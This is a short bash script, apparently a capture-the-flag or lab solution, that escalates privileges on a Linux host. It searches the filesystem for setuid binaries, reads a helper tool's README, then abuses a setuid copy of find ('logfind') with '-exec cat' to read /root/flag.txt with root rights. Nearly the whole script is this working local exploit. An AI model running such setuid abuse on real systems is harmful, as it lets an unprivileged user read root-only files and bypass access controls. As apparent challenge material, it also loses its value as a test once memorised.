#!/bin/bash
set -euo pipefail
# --- step: look for setuid binaries
find / -xdev -perm -4000 -type f 2>/dev/null; find /opt -perm -4000 -type f 2>/dev/null
# --- step: read the helper's README
cat /opt/logtools/README
# --- step: let the setuid find run cat with euid 0
/opt/logtools/bin/logfind /root/flag.txt -exec cat {} \;
